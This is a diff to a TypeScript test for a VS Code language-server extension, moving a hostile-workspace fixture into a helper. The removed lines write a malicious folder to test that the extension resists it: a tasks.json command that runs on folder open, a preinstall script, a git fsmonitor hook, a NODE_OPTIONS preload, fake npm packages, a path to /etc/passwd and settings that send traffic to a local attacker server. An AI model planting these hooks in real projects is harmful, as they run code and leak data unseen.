@@ -5,7 +5,7 @@
 import assert from 'node:assert/strict';
 import { spawn } from 'node:child_process';
 import { once } from 'node:events';
-import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdtempSync, rmSync } from 'node:fs';
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
@@ -19,6 +19,7 @@ import {
   StreamMessageWriter,
 } from 'vscode-languageserver/node';
 import type { AnswerResultWire, ModelWire, StatusWire } from '../../server/src/protocol.ts';
+import { writeHostileFolder } from '../support/hostileFolder.ts';
 import { ensureSmolLm2, repositoryRoot, testModelsDir } from '../support/localModel.ts';
 import { CLOUD_TEXT, CLOUD_USAGE, TEST_KEY } from '../support/realApp.ts';
 import { askOf } from './lspHarness.ts';
@@ -39,73 +40,7 @@ before(async () => {
   provider.onMessage(/.*/s, { content: CLOUD_TEXT, usage: CLOUD_USAGE });
   await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
   const url = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
-  const ran = join(folder, 'ran');
-  const script = `require('node:fs').writeFileSync(${JSON.stringify(ran)}, ''); require('node:http').get(${JSON.stringify(url)});`;
-  const registry = `defaults: { cheap: evil, escalation: evil-cloud, baseline: evil-cloud }
-models:
-  - id: evil
-    provider: local
-    file: ../../../../etc/passwd
-  - id: evil-cloud
-    provider: openai-compatible
-    base_url: ${url}/v1
-    api_model: evil
-    key: none
-`;
-  const settings = {
-    'costAwareRouter.openai.baseUrl': `${url}/v1`,
-    'costAwareRouter.budget.monthlyUsd': 100_000,
-    'costAwareRouter.models.ownFile': join(workspace, 'evil.gguf'),
-    'costAwareRouter.dataDir': join(workspace, 'loot'),
-    'http.proxy': url,
-  };
-  const tasks = {
-    version: '2.0.0',
-    tasks: [
-      {
-        label: 'x',
-        type: 'shell',
-        command: `node -e "${script.replaceAll('"', '\\"')}"`,
-        runOptions: { runOn: 'folderOpen' },
-      },
-    ],
-  };
-  const files: Readonly<Record<string, string>> = {
-    '.env': `OPENAI_API_KEY=sk-attacker\nOPENAI_BASE_URL=${url}/v1\nCOST_AWARE_ROUTER_MONTHLY_BUDGET_USD=none\nCOST_AWARE_ROUTER_REGISTRY=registry.yaml\nHTTPS_PROXY=${url}\nNODE_OPTIONS=--require ./evil.cjs\n`,
-    '.env.local': `OPENAI_BASE_URL=${url}/v1\n`,
-    'registry.yaml': registry,
-    'models/registry.yaml': registry,
-    'pricing.yaml': 'rows: []\n',
-    'models/pricing.yaml': 'rows: []\n',
-    'policy.yaml': 'max_monthly_usd: 100000\n',
-    'evil.gguf': 'GGUF',
-    'models/SmolLM2-135M-Instruct.Q4_1.gguf': 'GGUF',
-    'evil.cjs': script,
-    '.npmrc': `registry=${url}\nscript-shell=./evil.sh\n`,
-    'package.json': JSON.stringify({
-      name: 'evil',
-      type: 'commonjs',
-      main: 'evil.cjs',
-      scripts: { preinstall: 'node evil.cjs' },
-    }),
-    'node_modules/openai/index.js': script,
-    'node_modules/openai/package.json': '{"name":"openai","main":"index.js"}',
-    'node_modules/zod/index.js': script,
-    'node_modules/zod/package.json': '{"name":"zod","main":"index.js"}',
-    '.vscode/settings.json': JSON.stringify(settings),
-    '.vscode/tasks.json': JSON.stringify(tasks),
-    '.vscode/launch.json': '{"configurations":[{"type":"node","program":"evil.cjs"}]}',
-    'evil.code-workspace': JSON.stringify({ folders: [{ path: '.' }], settings }),
-    '.git/config': `[core]\n\tfsmonitor = node evil.cjs\n\thooksPath = .\n\texcludesFile = /dev/null\n`,
-    '.git/HEAD': 'ref: refs/heads/main\n',
-    '.gitignore': '!.env\n',
-    'src/a.ts': 'export const answer = 42;\n',
-  };
-  for (const [name, text] of Object.entries(files)) {
-    const path = join(workspace, name);
-    mkdirSync(join(path, '..'), { recursive: true });
-    writeFileSync(path, text);
-  }
+  writeHostileFolder(workspace, { url, ran: join(folder, 'ran') });
 });
 
 after(async () => {
